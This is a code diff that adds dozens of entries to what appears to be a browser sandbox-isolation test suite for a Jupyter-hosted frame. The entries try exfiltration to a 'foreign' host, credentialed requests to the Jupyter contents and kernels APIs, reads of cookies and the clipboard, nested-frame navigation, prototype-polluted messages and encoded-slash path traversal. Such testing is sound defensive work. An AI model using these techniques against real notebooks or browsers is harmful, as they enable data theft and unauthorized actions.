@@ -162,6 +162,126 @@ const ATTACKS = {
     }
     await sleep(200); return 'tried';
   },
+  // --------------------------------------------------------------------------------------------------- in other clothes
+  'cookieStore': async () => 'READ ' + (await cookieStore.getAll()).map(one => one.name),
+  'caches': async () => { await caches.open('x'); return 'OPENED'; },
+  'locks of the origin': async () => { const all = await navigator.locks.query(); return all.held.length ? 'READ locks' : 'nothing'; },
+  'document.domain': () => { document.domain = location.hostname; return 'READ ' + parent.document.title; },
+  'frame of the lab by name': () => { const made = window.open('', 'lab'); return made && made !== window ? 'READ ' + made.document.title : fail(); },
+  'data worker': () => new Promise((done, failed) => {
+    const made = new Worker(`data:text/javascript,fetch('${jupyter}api/contents',{credentials:'include'}).then(a=>postMessage('STATUS '+a.status),()=>postMessage('refused'));fetch('${foreign}data-worker',{mode:'no-cors'})`);
+    made.onmessage = ({ data }) => done(data); made.onerror = () => failed(new Error('failed')); setTimeout(() => failed(new Error('nothing')), 1200);
+  }),
+  'worker of Jupyter': () => new Promise((done, failed) => {
+    const made = new Worker(jupyter + 'files/secret.js'); made.onerror = () => failed(new Error('failed'));
+    made.onmessage = () => done('RAN'); setTimeout(() => failed(new Error('nothing')), 500);
+  }),
+  'worker in a worker': () => worker(`const inner = URL.createObjectURL(new Blob(["fetch('${foreign}inner',{mode:'no-cors'}).then(()=>postMessage('SENT'),()=>postMessage('refused'))"]));
+    const made = new Worker(inner); made.onmessage = ({data}) => postMessage(data); made.onerror = () => postMessage('refused');`),
+  'worker imports': () => worker(`import('${jupyter}files/secret.js').then(()=>postMessage('IMPORTED'),()=>postMessage('refused'))`),
+  'shared worker of a blob': () => new Promise((done, failed) => {
+    const made = new SharedWorker(URL.createObjectURL(new Blob([`onconnect=e=>fetch('${jupyter}api/contents',{credentials:'include'}).then(a=>e.ports[0].postMessage('STATUS '+a.status),()=>e.ports[0].postMessage('refused'))`])));
+    made.port.onmessage = ({ data }) => done(data); made.onerror = () => failed(new Error('failed')); setTimeout(() => failed(new Error('nothing')), 900);
+  }),
+  'import map': async () => {
+    const made = document.createElement('script'); made.type = 'importmap';
+    made.textContent = JSON.stringify({ imports: { stolen: jupyter + 'files/secret.js' } }); document.head.append(made);
+    await import('stolen'); return 'IMPORTED';
+  },
+  'nested srcdoc leaves': async () => {
+    await element('iframe', { srcdoc: `<script>location='${foreign}srcdoc'</scr` + 'ipt>' });
+    await element('iframe', { srcdoc: `<iframe srcdoc="<script>location='${jupyter}lab'</scr` + `ipt>"></iframe>` }); await sleep(400); return 'tried';
+  },
+  'nested data leaves': async () => {
+    await element('iframe', { src: `data:text/html,<script>location='${foreign}nested-data'</scr` + 'ipt>' });
+    await element('iframe', { src: `data:text/html,<iframe src='${jupyter}lab'></iframe><img src='${foreign}nested-img'><script>fetch('${foreign}nested-fetch',{mode:'no-cors'});new WebSocket('${jupyter.replace(/^http/, 'ws')}api/events/subscribe')</scr` + 'ipt>' });
+    await sleep(400); return 'tried';
+  },
+  'nested blob leaves': async () => {
+    const page = URL.createObjectURL(new Blob([`<form method=post action='${jupyter}api/kernels'></form><script>document.forms[0].submit();setTimeout(()=>{location='${foreign}nested-blob'},100)</scr` + 'ipt>'], { type: 'text/html' }));
+    await element('iframe', { src: page }); await sleep(400); return 'tried';
+  },
+  'nested goes to the top': async () => {
+    await element('iframe', { srcdoc: `<script>try{top.location='${jupyter}logout'}catch{};try{parent.parent.location='${foreign}up'}catch{}</scr` + 'ipt>' }); await sleep(300); return 'tried';
+  },
+  'unsandboxed frame': async () => {
+    const made = document.createElement('iframe'); made.setAttribute('sandbox', 'allow-same-origin allow-scripts allow-top-navigation allow-popups');
+    made.srcdoc = `<script>try{top.location='${jupyter}logout'}catch{};window.open('${jupyter}lab');fetch('${jupyter}api/contents',{credentials:'include'})</scr` + 'ipt>';
+    document.body.append(made); await sleep(400); return made.contentDocument ? 'READ frame' : 'tried';
+  },
+  'credentialless frame': () => element('iframe', { src: jupyter + 'lab', credentialless: '' }),
+  'fenced frame': () => element('fencedframe', { src: jupyter + 'lab' }),
+  'portal': () => element('portal', { src: jupyter + 'lab' }),
+  'SVG object': () => element('object', { data: jupyter + 'files/secret.svg', type: 'image/svg+xml' }),
+  'more lenient policy': async () => {
+    const made = document.createElement('meta'); made.httpEquiv = 'Content-Security-Policy'; made.content = 'default-src *'; document.head.append(made);
+    return read(foreign + 'lenient', { mode: 'no-cors' });
+  },
+  'cookie by meta': async () => {
+    const made = document.createElement('meta'); made.httpEquiv = 'Set-Cookie'; made.content = 'planted=1;path=/'; document.head.append(made); return 'tried';
+  },
+  'planted cookie': () => { Document.prototype.__lookupSetter__('cookie').call(document, 'planted=1;path=/'); return 'tried'; },
+  'button elsewhere': async () => {
+    const made = document.createElement('form'); made.innerHTML = `<button formaction="${jupyter}api/kernels" formmethod="post" formtarget="_parent" name="a">x</button>`;
+    document.body.append(made); made.firstChild.click(); await sleep(300); return 'tried';
+  },
+  'dialog and GET to the parent': async () => { form({ action: foreign + 'get-parent', method: 'get', target: '_parent' }, { a: 'b' }); await sleep(200); return 'tried'; },
+  'area ping': async () => {
+    const made = document.createElement('div'); made.innerHTML = `<map name="m"><area href="#x" ping="${foreign}area" shape="default"></map>`;
+    document.body.append(made); made.querySelector('area').click(); await sleep(200); return 'tried';
+  },
+  'attribution': async () => { await element('img', { src: 'data:,', attributionsrc: foreign + 'attribution' }); return 'tried'; },
+  'fetchLater': async () => { fetchLater(foreign + 'later', { activateAfter: 0 }); await sleep(300); return 'tried'; },
+  'keepalive': () => read(foreign + 'keepalive', { mode: 'no-cors', keepalive: true, method: 'POST', body: 'x' }),
+  'WebTransport': async () => { const made = new WebTransport(foreign.replace('http:', 'https:')); await made.ready; return 'OPENED'; },
+  'EventSource foreign': () => new Promise((done, failed) => {
+    const made = new EventSource(foreign + 'events'); made.onopen = () => done('OPENED'); made.onerror = () => failed(new Error('refused'));
+  }),
+  'payment': async () => { await new PaymentRequest([{ supportedMethods: foreign + 'pay' }], { total: { label: 'x', amount: { currency: 'EUR', value: '1' } } }).canMakePayment(); return 'tried'; },
+  'federated sign-in': async () => { await navigator.credentials.get({ identity: { providers: [{ configURL: foreign + 'fedcm.json', clientId: 'x' }] } }); return 'tried'; },
+  'clipboard': async () => 'READ ' + await navigator.clipboard.readText(),
+  'styles of every kind': async () => {
+    styled(['cursor:url(F1),auto', 'list-style-image:url(F2)', 'border-image:url(F3) 1', 'mask:url(F4)', 'filter:url(F5#x)', 'content:url(F6)', 'background:image-set("F7" 1x)', 'shape-outside:url(F8)', 'clip-path:url(F9#x)', 'offset-path:url(F10#x)']
+      .map((rule, index) => `.k${index},body::before{display:block;${rule.replace(/F(\d+)/, foreign + 'css$1')}}`).join('') + `@namespace url(${foreign}ns); @font-face{font-family:y;src:url(${foreign}font)} p{font-family:y}`);
+    for (let index = 0; index < 10; index++) { const made = document.createElement('p'); made.className = 'k' + index; made.textContent = 'x'; document.body.append(made); }
+    await sleep(400); return 'tried';
+  },
+  'pictures of every kind': async () => {
+    const made = document.createElement('div');
+    made.innerHTML = `<input type="image" src="${foreign}input"><video poster="${foreign}poster"></video><table background="${foreign}table"><tr><td>x</table>
+      <svg><filter id="f"><feImage href="${foreign}fe"/></filter><rect filter="url(#f)" width="9" height="9"/><script href="${foreign}svg-script"/></svg>
+      <picture><source srcset="${foreign}source 1x"><img></picture><audio src="${foreign}audio"></audio><math><mtext href="${foreign}math">x</mtext></math>`;
+    document.body.append(made); document.body.setAttribute('background', foreign + 'body'); await sleep(400); return 'tried';
+  },
+  'links of every kind': async () => {
+    for (const rel of ['icon', 'apple-touch-icon', 'prerender', 'next', 'search', 'compression-dictionary', 'alternate stylesheet', 'import', 'pingback']) {
+      const made = document.createElement('link'); made.rel = rel; made.href = foreign + 'link-' + rel.replace(' ', '-'); document.head.append(made);
+    }
+    const own = document.createElement('link'); own.rel = 'prerender'; own.href = jupyter + 'lab'; document.head.append(own);
+    await sleep(400); return 'tried';
+  },
+  'paint worklet': async () => { await CSS.paintWorklet.addModule(foreign + 'worklet'); return 'RAN'; },
+  'audio worklet': async () => { await new AudioContext().audioWorklet.addModule(jupyter + 'files/secret.js'); return 'RAN'; },
+  'XSLT': async () => {
+    const parse = text => new DOMParser().parseFromString(text, 'text/xml');
+    const made = new XSLTProcessor();
+    made.importStylesheet(parse(`<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:import href="${foreign}xsl"/><xsl:template match="/"><a><xsl:copy-of select="document('${jupyter}api/status')"/></a></xsl:template></xsl:stylesheet>`));
+    const got = made.transformToDocument(parse('<x/>')); return got && got.documentElement.textContent ? 'READ ' + got.documentElement.textContent : 'nothing';
+  },
+  'odd methods': async () => {
+    for (const method of ['HEAD', 'OPTIONS', 'PROPFIND', 'PATCH', 'DELETE']) await read(jupyter + 'api/contents', { method, credentials: 'include' }).catch(() => null);
+    return 'tried';
+  },
+  'another app by an encoded slash': () => read(location.href.replace(/[^/]*$/, '') + '..%2F..%2Fother%2Findex.html'),
+  'the API by an encoded slash': () => read(location.href.replace(/[^/]*$/, '') + '%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2fapi%2fcontents'),
+  'back slashes': () => read(location.href.replace(/[^/]*$/, '') + '..\\..\\..\\..\\api\\status'),
+  'polluted messages': async () => {
+    for (const data of [JSON.parse('{"townie":1,"__proto__":{"hello":"x"},"constructor":{"prototype":{"polluted":1}}}'), { townie: 1, get: 1 }, Object.assign([], { townie: 1 }), new Error('x'), null, 'townie', 1n])
+      parent.postMessage(data, '*', [new MessageChannel().port2]);
+    const cyclic = { townie: 1 }; cyclic.self = cyclic; parent.postMessage(cyclic, '*');
+    let deep = {}; for (let index = 0; index < 5000; index++) deep = { deep }; parent.postMessage({ townie: 1, hello: deep }, '*');
+    await sleep(200); return 'tried';
+  },
   // ----------------------------------------------------------------------------------------------------------- leaving
   'fetch foreign': () => read(foreign + 'fetch', { mode: 'no-cors' }),
   'image foreign': () => element('img', { src: foreign + 'image' }),
@@ -194,6 +314,16 @@ const NAVIGATIONS = {
   },
   'self by a form': () => form({ action: jupyter + 'api/kernels', method: 'post' }),
   'form to a foreign server': () => form({ action: foreign + 'form', method: 'post' }),
+  'self by the Navigation API': () => { navigation.navigate(foreign + 'navigation'); },
+  'self by open': () => { window.open(foreign + 'open-self', '_self'); },
+  'self by a link': () => { const made = document.createElement('a'); made.href = jupyter + 'lab'; document.body.append(made); made.click(); },
+  'self by the host': () => { location.host = new URL(foreign).host; },
+  'self by a formaction': () => {
+    const made = document.createElement('form'); made.innerHTML = `<button formaction="${foreign}formaction">x</button>`; document.body.append(made); made.firstChild.click();
+  },
+  'download of a foreign file': () => { const made = document.createElement('a'); made.href = foreign + 'download'; made.download = 'x'; document.body.append(made); made.click(); },
+  'self by an XSLT document': () => { location.href = 'styled.xml'; },
+  'self by SVG': () => { location.href = 'drawn.svg'; },
   'self to javascript': () => { location.href = 'javascript:document.write(document.cookie)'; },
   'self to data': () => { location.href = `data:text/html,<script>location='${foreign}data'</scr` + 'ipt>'; },
   'self to blob': () => {
